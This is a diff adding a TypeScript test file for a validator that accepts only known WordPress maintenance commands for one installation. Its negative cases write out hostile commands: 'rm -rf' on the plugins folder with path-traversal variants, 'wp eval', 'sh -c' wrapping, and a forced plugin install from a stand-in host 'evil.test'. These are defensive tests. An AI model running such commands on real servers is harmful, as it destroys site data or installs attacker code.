@@ -1,0 +1,52 @@
+import { expect, test } from 'vitest';
+import {
+  installPlugin,
+  isWordpressCommand,
+  wordpressCommands,
+  wordpressFolder,
+  wordpressPluginCommands,
+  wordpressVersionCommands,
+} from './wordpress.ts';
+
+const at = { path: '/var/www/html/', folder: wordpressFolder({ number: 42, attempt: 1 }) };
+
+test('each command of a safe update is known, and only on its own installation', () => {
+  const all = [
+    ...Object.values(wordpressCommands).map((build) => build(at)),
+    ...Object.values(wordpressVersionCommands).map((build) => build(at, '6.9.1')),
+    ...Object.values(wordpressPluginCommands).map((build) => build(at, 'akismet')),
+    installPlugin(at, 'akismet', '5.3'),
+  ];
+  for (const argv of all) {
+    expect(isWordpressCommand(argv, at), argv.join(' ')).toBe(true);
+    expect(isWordpressCommand([...argv, '--exec=x'], at)).toBe(false);
+    expect(isWordpressCommand(argv.slice(0, -1), at)).toBe(false);
+    expect(
+      isWordpressCommand(argv, { path: '/var/www/other', folder: '/var/tmp/hlidka-1-1' }),
+    ).toBe(false);
+  }
+});
+
+test.each([
+  [['wp', 'eval', 'x', '--path=/var/www/html', '--no-color']],
+  [['rm', '-rf', '--', '/var/www/html/wp-content/plugins/']],
+  [['rm', '-rf', '--', '/var/www/html/wp-content/plugins/..']],
+  [['rm', '-rf', '--', '/var/www/html/wp-content/plugins/a/../../..']],
+  [['wp', 'plugin', 'update', '--all', '--path=/var/www/html', '--no-color']],
+  [['wp', 'plugin', 'update', '-x', '--path=/var/www/html', '--no-color']],
+  [
+    [
+      'wp',
+      'plugin',
+      'install',
+      'http://evil.test/x.zip',
+      '--version=1',
+      '--force',
+      '--path=/var/www/html',
+      '--no-color',
+    ],
+  ],
+  [['sh', '-c', 'wp core version']],
+])('%j is none of them', (argv) => {
+  expect(isWordpressCommand(argv, at)).toBe(false);
+});
